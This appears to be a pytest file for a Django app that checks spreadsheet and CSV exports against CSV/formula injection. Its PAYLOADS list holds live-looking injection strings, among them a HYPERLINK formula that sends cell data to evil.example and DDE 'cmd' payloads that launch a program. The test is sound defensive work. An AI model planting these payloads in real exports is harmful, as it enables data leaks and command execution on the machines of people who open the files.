"""No spreadsheet or CSV doingoai writes carries a formula (OWASP, "CSV injection").

Every text field a kind exports is filled with a classic payload; the list's Excel file
must hold each one as text (no ``<f>`` element, the text unchanged) and its CSV file must
start no cell with a formula character, and keep every cell quoted."""

from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest
from django.db import models
from django.urls import reverse
from openpyxl import load_workbook

from doingoai.core.registry import REGISTRY
from doingoai.core.samples import load_all

SAMPLES = load_all()

#: OWASP's formula characters, and their full-width forms
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1;=2+2",
    "#N/A",
    "\uff1dSUM(1,2)",
]


def formula_cells(xlsx: bytes) -> list[str]:
    """The formulas in every sheet of a workbook, read from the XML itself."""
    found = []
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                found += re.findall(r"<f[ >].*?</f>", z.read(name).decode())
    return found


def xlsx_texts(xlsx: bytes) -> set[str]:
    wb = load_workbook(io.BytesIO(xlsx))
    return {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value}


def assert_csv_safe(text: str) -> list[str]:
    cells = [c for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for c in row]
    bad = [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert not bad, f"CSV cells read as formulas: {bad}"
    return cells


def _text_fields(kind) -> list[str]:
    model = kind.model
    names = []
    for path in kind.get_export_fields():
        if "__" in path:
            continue
        try:
            field = model._meta.get_field(path)
        except Exception:  # noqa: BLE001 - a property, not a field
            continue
        if (
            isinstance(field, (models.CharField, models.TextField))
            and not field.choices
            and not field.unique
            and not isinstance(field, models.EmailField | models.URLField | models.SlugField)
        ):
            names.append(path)
    return names


KINDS_WITH_TEXT = [slug for slug in sorted(REGISTRY) if _text_fields(REGISTRY[slug])]


def test_every_kind_with_text_is_walked():
    assert {"partners", "activities", "resources", "agreements"} <= set(KINDS_WITH_TEXT)


@pytest.mark.parametrize("slug", KINDS_WITH_TEXT)
def test_list_exports_write_text_never_a_formula(slug, world, login):
    kind = REGISTRY[slug]
    obj = SAMPLES[slug](world.daklak)
    fields = _text_fields(kind)
    limits = {name: kind.model._meta.get_field(name).max_length or 200 for name in fields}
    values = {name: PAYLOADS[i % len(PAYLOADS)][: limits[name]] for i, name in enumerate(fields)}
    type(obj)._default_manager.filter(pk=obj.pk).update(**values)
    client = login("admin")

    xlsx = client.get(reverse(f"{slug}_export", args=["xlsx"])).content
    assert formula_cells(xlsx) == []
    texts = xlsx_texts(xlsx)
    for value in values.values():
        assert value.replace("\r", "\n") in texts or value in texts, value

    response = client.get(reverse(f"{slug}_export", args=["csv"]))
    text = b"".join(response.streaming_content).decode()
    cells = assert_csv_safe(text)
    for value in values.values():
        expected = "'" + value if value.startswith(FORMULA_STARTS) else value
        assert expected in cells, value
    # every text cell is quoted, so a spreadsheet that splits on ";" keeps it one cell
    assert '"=1+1;=2+2"' not in text or '"\'=1+1;=2+2"' in text


def test_partner_named_with_a_formula_through_the_api_exports_as_text(world, login, client):
    """The case of the report: a formula name accepted by the API reaches every export."""
    from doingoai.api.models import ApiToken

    _token, secret = ApiToken.issue(world.user("daklak"), "t")
    name = PAYLOADS[0]
    response = client.post(
        "/api/v1/partners/",
        {"name_vi": name, "country": "LA", "kind": "ingo", "unit": world.daklak.pk},
        content_type="application/json",
        HTTP_AUTHORIZATION=f"Bearer {secret}",
    )
    assert response.status_code == 201, response.content
    reader = login("hanoi")  # partners are shared: another province downloads it
    xlsx = reader.get(reverse("partners_export", args=["xlsx"])).content
    assert formula_cells(xlsx) == []
    assert name in xlsx_texts(xlsx)
    text = b"".join(reader.get(reverse("partners_export", args=["csv"])).streaming_content)
    assert "'" + name in assert_csv_safe(text.decode())


def test_import_template_lists_write_text(world, login):
    """The import template lists unit names in its drop-downs: as text too."""
    from doingoai.organization.models import Unit

    Unit.objects.filter(pk=world.daklak.pk).update(name=PAYLOADS[1])
    response = login("daklak").get(reverse("import_template", args=["activities"]))
    assert response.status_code == 200
    assert formula_cells(response.content) == []
    assert PAYLOADS[1] in xlsx_texts(response.content)


def test_control_characters_do_not_break_an_export(world, login):
    """openpyxl refuses control characters: the export drops them instead of a 500."""
    obj = SAMPLES["partners"](world.daklak)
    type(obj)._default_manager.filter(pk=obj.pk).update(name_vi="Đối tác\x01\x08 lạ")
    response = login("daklak").get(reverse("partners_export", args=["xlsx"]))
    assert response.status_code == 200
    assert "Đối tác lạ" in xlsx_texts(response.content)
